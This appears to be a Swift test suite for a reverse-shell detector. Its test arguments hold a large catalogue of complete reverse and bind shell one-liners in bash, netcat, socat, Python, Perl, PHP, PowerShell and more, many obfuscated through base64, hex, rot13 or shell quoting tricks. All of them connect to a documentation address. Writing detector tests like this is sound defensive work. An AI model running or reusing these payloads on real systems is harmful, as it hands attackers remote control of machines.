import Bytes
import Foundation
import Testing

@testable import Detectors

private func shells(_ text: String, _ origin: TextOrigin = .command) -> [TextDetection] {
  text.withView { ReverseShellDetector().scan($0, origin) }
}

private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }

/// In lines, as `base64` writes.
private func base64(_ text: String, line: Int) -> String {
  let digits = Array(base64(text))
  return stride(from: 0, to: digits.count, by: line).map { String(digits[$0..<min($0 + line, digits.count)]) }
    .joined(separator: "\n")
}

@Suite struct ReverseShellTests {
  /// Each connects to 198.51.100.9, port 4242.
  @Test(arguments: [
    ("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1", "dev_tcp"),
    ("bash -c 'exec bash -i &>/dev/tcp/198.51.100.9/4242 <&1'", "dev_tcp"),
    ("sh -i 5<> /dev/tcp/198.51.100.9/4242 0<&5 1>&5 2>&5", "dev_tcp"),
    ("exec 7<>/dev/tcp/198.51.100.9/4242; while read -r c <&7; do eval \"$c\" >&7; done", "dev_tcp"),
    ("/bin/bash -l > /dev/tcp/198.51.100.9/4242 0<&1 2>&1", "dev_tcp"),
    ("H=198.51.100.9; P=4242; bash -i >& /dev/tcp/$H/$P 0>&1", "dev_tcp"),
    ("(sh)0>/dev/tcp/198.51.100.9/4242", "dev_tcp"), ("ksh -c 'ksh >/dev/tcp/198.51.100.9/4242 0>&1'", "dev_tcp"),
    ("exec /bin/sh 0</dev/tcp/198.51.100.9/4242 1>&0 2>&0", "dev_tcp"),
    ("sh</dev/tcp/198.51.100.9/4242 1>&0 2>&0", "dev_tcp"),
    ("$(printf '\\142\\141\\163\\150') -i >& /dev/tcp/198.51.100.9/4242 0>&1", "dev_tcp"),
    ("b'a's\"h\" -i >& /dev/tcp/198.51.100.9/4242 0>&1", "dev_tcp"),
    (
      "curl 'http://app.example/run?q=1&c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.9%2F4242%200%3E%261'",
      "dev_tcp"
    ),
    ("GET /shell.cgi?cmd=nc+-e+/bin/sh+198.51.100.9+4242 HTTP/1.1", "nc"),
    ("rustcat connect -s bash 198.51.100.9 4242", "nc"),
    ("php -r '$s=fsockopen(\"tcp://198.51.100.9\",4242);exec(\"sh <&3 >&3 2>&3\");'", "php"),
    ("vim -c ':!nc -e /bin/sh 198.51.100.9 4242'", "nc"), ("!nc -e /bin/sh 198.51.100.9 4242", "nc"),
    (
      "perl -e 'eval pack(\"H*\",\"6e63202d65202f62696e2f7368203139382e35312e3130302e392034323432\")'", "nc"
    ),
    ("nc -e /bin/sh 198.51.100.9 4242", "nc"), ("nc 198.51.100.9 4242 -e bash", "nc"),
    ("nohup ncat --ssl 198.51.100.9 4242 --exec /bin/bash &", "nc"), ("nc -nv 198.51.100.9 4242 -c 'sh -i'", "nc"),
    ("nc 198.51.100.9 4242 | /bin/sh | nc 198.51.100.9 4243", "nc"),
    ("mkfifo /tmp/q; nc 198.51.100.9 4242 0</tmp/q | /bin/sh >/tmp/q 2>&1", "mkfifo_nc"),
    ("mknod /tmp/b p; /bin/sh 0</tmp/b | nc 198.51.100.9 4242 1>/tmp/b", "mkfifo_nc"),
    ("telnet 198.51.100.9 4242 | /bin/bash | telnet 198.51.100.9 4243", "telnet"),
    ("socat TCP:198.51.100.9:4242 EXEC:'bash -li',pty,stderr,setsid,sigint,sane", "socat"),
    ("socat exec:/bin/sh openssl-connect:198.51.100.9:4242,verify=0", "socat"),
    (
      "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.9:4242 > /tmp/s", "openssl"
    ),
    (
      "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
      "python"
    ),
    (
      "RHOST=198.51.100.9 RPORT=4242 python -c 'import os,socket,pty;s=socket.create_connection((os.environ[\"RHOST\"],int(os.environ[\"RPORT\"])));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
      "python"
    ),
    (
      "perl -e 'use Socket;$i=\"198.51.100.9\";$p=4242;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"sh -i\")}'",
      "perl"
    ),
    (
      "ruby -rsocket -e 's=TCPSocket.new(\"198.51.100.9\",4242);[0,1,2].each{|d|IO.new(d).reopen(s)};exec \"sh -i\"'",
      "ruby"
    ),
    ("php -r '$s=fsockopen(\"198.51.100.9\",4242);$p=proc_open(\"sh\",[0=>$s,1=>$s,2=>$s],$x);'", "php"),
    (
      "php -r '$s=stream_socket_client(\"tcp://198.51.100.9:4242\");while($c=fgets($s)){fwrite($s,shell_exec($c));}'",
      "php"
    ),
    (
      "node -e 'require(\"net\").connect(4242,\"198.51.100.9\",function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin);s.stdout.pipe(this)})'",
      "node"
    ),
    (
      "lua -e 'local s=require(\"socket\");local t=assert(s.tcp());t:connect(\"198.51.100.9\",4242);while true do local r=t:receive();t:send(io.popen(r):read(\"*a\")) end'",
      "lua"
    ),
    (
      "awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.9/4242\";while(1){do{s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!=\"x\")}}'",
      "awk"
    ),
    (
      "package main;import(\"net\";\"os/exec\");func main(){c,_:=net.Dial(\"tcp\",\"198.51.100.9:4242\");p:=exec.Command(\"sh\");p.Stdin=c;p.Run()}",
      "go"
    ),
    (
      "String h=\"198.51.100.9\";int p=4242;Process q=new ProcessBuilder(\"sh\").start();Socket s=new Socket(h,p);",
      "java"
    ),
    (
      "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('198.51.100.9',4242);$s=$c.GetStream();iex $d\"",
      "powershell"
    ),
    ("C='curl -s telnet://198.51.100.9:4242'; $C | sh | $C", "telnet"),
    ("zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.9 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", "zsh_tcp"),
    (
      "R -e 's<-socketConnection(host=\"198.51.100.9\",port=4242,blocking=TRUE);while(1){writeLines(system(readLines(s,1),intern=TRUE),s)}'",
      "other"
    ),
  ])
  func namesTechniqueHostAndPort(text: String, technique: String) {
    let found = shells(text)
    #expect(found.first?.kind == .reverseShell)
    #expect(found.first?.technique == technique)
    #expect(found.first?.host == "198.51.100.9")
    #expect(found.first?.port == 4242)
  }

  @Test(arguments: [
    "nc -lvnp 4242 -e /bin/bash", "mkfifo f; cat f | sh -i 2>&1 | nc -l 4242 > f",
    "socat TCP-LISTEN:4242,reuseaddr,fork EXEC:/bin/sh", "ncat -l -p 4242 -e /bin/sh",
    "python -c 'import socket,subprocess,os;s=socket.socket();s.bind((\"0.0.0.0\",4242));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);subprocess.call([\"sh\"])'",
  ])
  func knowsBindShells(text: String) {
    #expect(shells(text).first?.kind == .bindShell)
    #expect(shells(text).first?.port == 4242)
  }

  @Test func unwrapsToAnyDepth() {
    var text = "bash -i >& /dev/tcp/198.51.100.9/4242 0>&1"
    for _ in 0..<5 { text = "echo \(base64(text)) | base64 -d | bash" }
    let found = shells(text).first
    #expect(found?.host == "198.51.100.9")
    #expect(found?.commands.count == 5)
    #expect(found?.commands.last?.hasPrefix("bash -i") == true)
  }

  @Test(arguments: [
    "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjkvNDI0MiAwPiYx}|{base64,-d}|{bash,-i}",
    "nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.9${IFS}4242", "{nc,-e,/bin/sh,198.51.100.9,4242}",
    "n\\c -e /bin/s''h 198.51.100.9 4242",
    "GET /x?cmd=bash+-c+%27bash+-i+%3E%26+/dev/tcp/198.51.100.9/4242+0%3E%261%27",
    "{\"cmd\":\"bash -i \\u003e\\u0026 /dev/tcp/198.51.100.9/4242 0\\u003e\\u00261\"}",
    "echo 1&>0 2424/9.001.15.891/pct/ved/ &> i- hsab | rev | sh",
    "xxd -r -p <<< 62617368202d69203e26202f6465762f7463702f3139382e35312e3130302e392f3432343220303e2631 | sh",
    "printf '\\x62\\x61\\x73\\x68 -i >& /dev/tcp/198.51.100.9/4242 0>&1' | sh",
  ])
  func seesThroughSpellings(text: String) {
    let found = shells(text).first
    #expect(found?.host == "198.51.100.9")
    #expect(found?.port == 4242)
  }

  /// Quotes, variables and brackets between the shell and the device; wrappings without a mark of their own.
  @Test(arguments: [
    "export H=198.51.100.9;export P=4242;bash -i >& \"/dev/tcp/$H/${P}\" 0>&1",
    "bash${IFS}-i>&/dev/tcp/198.51.100.9/4242<&1", "bash -i >& $'\\x2fdev\\x2ftcp\\x2f198.51.100.9\\x2f4242' 0>&1",
    "$'\\142\\141\\163\\150' -i >& /dev/tcp/198.51.100.9/4242 0>&1",
    "x=bash; $x -i >& /dev/tcp/198.51.100.9/4242 0>&1", "a=/dev; b=tcp; bash -i >& $a/$b/198.51.100.9/4242 0>&1",
    "s=sh;ba$s -i >& /dev/tcp/198.51.100.9/4242 0>&1",
    "(exec -a \"[kworker]\" bash -i) >& /dev/tcp/198.51.100.9/4242 0>&1",
    "bash -i &gt;&amp; /dev/tcp/198.51.100.9/4242 0&gt;&amp;1",
    "bash -c {echo,\(base64(base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")))}|{base64,-d}|{base64,-d}|{bash,-i}",
    base64("x;bash -i >& /dev/tcp/198.51.100.9/4242 0>&1"),
    "type=EXECVE argc=3 a0=\"sh\" a1=\"-c\" a2=62617368202D69203E26202F6465762F7463702F3139382E35312E3130302E392F3432343220303E2631",
    "echo H4sIAAAAAAACA0tKLM5Q0M1UsFNT0E9JLdMvSS7QN7S00DM11DM0MNCz1DcxMjFSMLBTMwQA/2/9AioAAAA= | base64 -d | gunzip | bash",
    "echo MJQXG2BAFVUSAPRGEAXWIZLWF52GG4BPGE4TQLRVGEXDCMBQFY4S6NBSGQZCAMB6EYYQ==== | base32 -d | sh",
    "echo 'onfu -v >& /qri/gpc/198.51.100.9/4242 0>&1' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash",
    "sh -c '$@|sh' . echo bash -i \\>\\& /dev/tcp/198.51.100.9/4242 0\\>\\&1",
    "exec 6<>/dev/tcp/198.51.100.9/4242;while read -u 6 l;do eval $l >&6 2>&6;done",
    "exec 3<>/dev/tcp/198.51.100.9/4242;exec 0<&3 1>&3 2>&3;exec bash -i",
    "deno eval 'const c=await Deno.connect({hostname:\"198.51.100.9\",port:4242});Deno.run({cmd:[\"sh\"]})'",
    "ncat --sh-exec \"/bin/bash -i\" 198.51.100.9 4242", "nc -c \"/bin/sh -i\" 198.51.100.9 4242",
    "nc.traditional -e/bin/bash 198.51.100.9 4242", "n'c' -e /bin/sh 198.51.100.9 4242",
    "cryptcat -e /bin/sh -k key 198.51.100.9 4242", "nc -e /bin/sh 198.51.100.9 -p 4242",
    "ncat --proxy 10.1.1.1:8080 --proxy-type http 198.51.100.9 4242 -e /bin/sh", "ncat -e python3 198.51.100.9 4242",
    "coproc nc 198.51.100.9 4242; exec sh <&${COPROC[0]} >&${COPROC[1]} 2>&1", "socat - tcp:198.51.100.9:4242 | sh",
    "socat SOCKS4A:127.0.0.1:198.51.100.9:4242,socksport=9050 EXEC:sh",
    "websocat --binary ws://198.51.100.9:4242 exec:/bin/sh", "websocat -E cmd:'bash -i' tcp:198.51.100.9:4242",
    "node -e \"sh=require('child_process').spawn('sh');c=require('net').createConnection(4242,'198.51.100.9',()=>{c.pipe(sh.stdin)})\"",
    "struct sockaddr_in a;a.sin_port=htons(4242);a.sin_addr.s_addr=inet_addr(\"198.51.100.9\");connect(s,&a,16);dup2(s,0);dup2(s,1);execve(\"/bin/sh\",0,0);",
  ])
  func seesThroughQuotesVariablesAndCodes(text: String) {
    let found = shells(text).first { $0.kind == .reverseShell }
    #expect(found?.host == "198.51.100.9")
    #expect(found?.port == 4242)
  }

  /// What stands for a name, a word or a path; what reads from a device by way of quotes, brackets or `exec`.
  @Test(arguments: [
    "/???/b??h -i >& /dev/tcp/198.51.100.9/4242 0>&1", "`echo bash` -i >& /dev/tcp/198.51.100.9/4242 0>&1",
    "/???/n? -e /???/sh 198.51.100.9 4242", "/bin/n[c] -e /bin/s[h] 198.51.100.9 4242",
    "n${x}c -e /bin/s${y}h 198.51.100.9 4242",
    "nc -e /bin/sh 198.51.100.9 `echo 4242`", "nc -e /bin/sh ${LHOST:-198.51.100.9} ${LPORT:-4242}",
    "a=(bash -i); \"${a[@]}\" >& /dev/tcp/198.51.100.9/4242 0>&1", "'bash' -i >& /dev/tcp/198.51.100.9/4242 0>&1",
    "\"bash\" \"-i\" >& /dev/tcp/198.51.100.9/4242 0>&1", "{ bash -i; } >& /dev/tcp/198.51.100.9/4242 0>&1",
    "{ sh; } <> /dev/tcp/198.51.100.9/4242 >&0 2>&0", "exec 0<>/dev/tcp/198.51.100.9/4242 1>&0 2>&0; exec bash",
    "exec <> /dev/tcp/198.51.100.9/4242 >&0 2>&0 ; sh -i", "bash -c \"bash -i\" <>/dev/tcp/198.51.100.9/4242 >&0 2>&0",
    "script -qc 'bash -i' /dev/null <>/dev/tcp/198.51.100.9/4242 >&0 2>&0",
    "script /dev/null -qc /bin/bash <>/dev/tcp/198.51.100.9/4242 >&0 2>&1",
    "<string>bash -i &gt;&amp; /dev/tcp/198.51.100.9/4242 0&gt;&amp;1</string>",
    "printf '%b' '\\0142\\0141\\0163\\0150 -i >& /dev/tcp/198.51.100.9/4242 0>&1' | sh",
    "rm -f /tmp/z;mkfifo /tmp/z;/bin/sh -i</tmp/z 2>&1|nc 198.51.100.9 4242>/tmp/z",
    "coproc bash; nc 198.51.100.9 4242 <&${COPROC[0]} >&${COPROC[1]}",
    "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"198.51.100.9:4242\");open STDIN,\"<&\",$s;system \"sh\"'",
    "php -r '$h=\"198.51.100.9\";$p=4242;$s=stream_socket_client(\"tcp://$h:$p\");$x=proc_open(\"sh\",[$s,$s,$s],$q);'",
    "echo 'var h=\"198.51.100.9\"; var p=4242; var B = Java.type(\"java.lang.ProcessBuilder\"); var q=new B(\"sh\").start(); var Socket = Java.type(\"java.net.Socket\"); var s=new Socket(h,p);' | jjs",
    "nmap --script <(echo 'local s=require \"socket\";local t=assert(s.tcp());t:connect(\"198.51.100.9\",4242);local f=assert(io.popen(t:receive(),\"r\"))')",
    "python -c 'async def m():\n r,w=await asyncio.open_connection(\"198.51.100.9\",4242)\n c=await r.readline()\n os.popen(c)'",
    "let s=newSocket(); s.connect(\"198.51.100.9\",Port(4242)); while true: s.send(execProcess(s.recvLine()))",
    "echo \(base64(String(repeating: "#", count: 97) + "\nbash -i >& /dev/tcp/198.51.100.9/4242 0>&1", line: 76)) | base64 -d | sh",
  ])
  func seesWhatStandsForAWord(text: String) {
    let found = shells(text).first { $0.kind == .reverseShell }
    #expect(found?.host == "198.51.100.9")
    #expect(found?.port == 4242)
  }

  /// Who starts a wrapped command is named, not what he wraps.
  @Test func namesTheCarrierOfAWrappedCommand() {
    let inner = base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")
    let found = shells("Runtime.getRuntime().exec(\"bash -c {echo,\(inner)}|{base64,-d}|{bash,-i}\")").first
    #expect(found?.technique == "java")
    #expect(found?.port == 4242)
  }

  @Test func unwrapsPowerShell() {
    let script = "$c=New-Object Net.Sockets.TCPClient('198.51.100.9',4242);iex $d"
    let wide = Data(script.utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }).base64EncodedString()
    #expect(shells("powershell -e \(wide)").first?.port == 4242)
  }

  @Test(arguments: [
    "nc -zv 10.0.0.1 22", "nc -z -w 2 db 5432 && echo up", "ssh -R 4444:localhost:22 user@h.example",
    "timeout 1 bash -c '</dev/tcp/h.example/443' && echo open",
    "(echo > /dev/tcp/10.0.0.1/80) >/dev/null 2>&1 && echo open",
    "exec 3<>/dev/tcp/h.example/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3", "cat < /dev/tcp/time.example/13",
    "socat TCP-LISTEN:8080,fork TCP:10.0.0.2:80",
    "openssl s_client -connect www.example.com:443 -servername www.example.com </dev/null",
    "python -m http.server 8000",
    "tar cz dir | nc 10.0.0.2 9000", "nc -l 9000 > backup.tgz",
    "mkfifo /tmp/p; nc -l 8080 < /tmp/p | nc 10.0.0.2 80 > /tmp/p", "telnet mail.example.com 25",
    "echo | telnet 10.0.0.1 80",
    "python3 -c \"import socket; s=socket.socket(); s.connect(('localhost', 80)); print('ok')\"", "bash -i",
    "sh script.sh | nc 10.0.0.1 514", "curl -s https://get.example.com | bash",
    "php -r '$f=fsockopen(\"localhost\",11211); fwrite($f,\"stats\"); echo fgets($f);'",
    "for p in 22 80; do (echo >/dev/tcp/$h/$p) && echo $p; done", "sudo nc -lk 514", "xterm -display :0",
    "echo func sync nc", "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"h.example:80\") or exit 1'",
    "ruby -e 'require \"socket\"; puts Socket.gethostname'", "git commit -m 'fix nc -e handling'",
    "grep -r \"nc -e /bin/sh\" /var/www", "# bash -i >& /dev/tcp/ is how it begins",
    "new Socket(\"db\", 5432).close(); new ProcessBuilder(\"ls\").start();",
    "(bash backup.sh) >& /dev/tcp/10.0.0.1/514", "x=5; bash run.sh > \"/dev/tcp/10.0.0.1/514\"",
    "socat - TCP:10.0.0.1:80 | grep x",
    "php -r '$f=fsockopen(\"h.example\",465); echo fgets($f); system(\"date\");'",
    "net=require('net');cp=require('child_process');net.createServer().listen(0,()=>cp.spawn('node',['a.js']))",
    "cmd := exec.Command(\"ls\"); conn, _ := net.Dial(\"tcp\", addr)",
    "websocat ws://10.0.0.1:80/feed", "DB=db.example; PORT=5432; timeout 1 bash -c \"</dev/tcp/$DB/$PORT\"",
    "tcp=80; dev=eth0; sh -c \"ip link show $dev\"",
    "echo H4sIAAAAAAAAA0vOzy0oSi0uTk0BAMIDcX8KAAAA | base64 -d | gunzip > f",
    "gawk 'BEGIN{s=\"/inet/tcp/0/h.example/80\"; print \"GET /\" |& s; while((s |& getline l)>0) print l}'",
    "exec 3</dev/tcp/10.0.0.1/13; bash -i", "exec </srv/list; bash", "{ echo; } > /dev/tcp/10.0.0.1/514",
    "bash -c 'cat' </dev/tcp/10.0.0.1/13", "script -c 'bash -i' typescript", "ls /bin/?sh /???/n?",
    "coproc cat; nc -l 9000 > f",
    "cat /etc/hosts | nc 10.0.0.1 9000", "nc 10.0.0.1 9000 < /etc/hosts", "cat f > /dev/tcp/10.0.0.1/9000",
  ])
  func staysQuiet(text: String) { #expect(shells(text).isEmpty) }

  @Test func findsOneInMemory() {
    var bytes = [UInt8](repeating: 0xFF, count: 5000)
    bytes += Array("bash\0-c\0bash -i >& /dev/tcp/198.51.100.9/4242 0>&1\0\0".utf8)
    bytes += [UInt8](repeating: 0, count: 5000)
    let found = bytes.withView { ReverseShellDetector().scan($0, .bytes) }
    #expect(found.count == 1)
    #expect(found.first?.host == "198.51.100.9")
    #expect(found.first?.severity == .medium)
    #expect(found.first?.range.lowerBound == 5000)
  }

  @Test(arguments: [
    "/dev/tcp/", "nc ", "nc -e ", "bash -i ", "s.connect((", "nc a 1|sh|", "{a,", "mkfifo nc a 1;", "YmFzaCAtaS",
    "\\x41", "rev ", "a=b,", "98,", "echo AAAAAAAA;base64 ", "nc -c 'sh ", "nc -e `a ", "connect((\"a\",",
    "exec(socket recv(",
  ])
  func survivesFloods(unit: String) {
    let text = String(repeating: unit, count: 60_000) + "\nbash -i >& /dev/tcp/198.51.100.9/4242 0>&1"
    let found = shells(text, .bytes)
    #expect(found.count <= ReverseShellDetector.maximumDetections)
  }

  @Test func anyBytesAreSafe() {
    var state: UInt64 = 5
    let pieces = [
      "nc ", "-e", "/bin/sh", " ", "'", "\"", "|", "/dev/tcp/", "1.2.3.4/", "\0", "{", ",", "}", "$", "=", "\\",
      "socket", ".connect((", ";", "<&", "0>", "\u{130}",
    ]
    for _ in 0..<300 {
      var text = ""
      for _ in 0..<60 {
        state = state &* 6_364_136_223_846_793_005 &+ 1
        text += pieces[Int(state >> 33) % pieces.count]
      }
      for origin in [TextOrigin.command, .bytes] {
        #expect(shells(text, origin).allSatisfy { $0.range.upperBound <= text.utf8.count })
      }
    }
  }
}
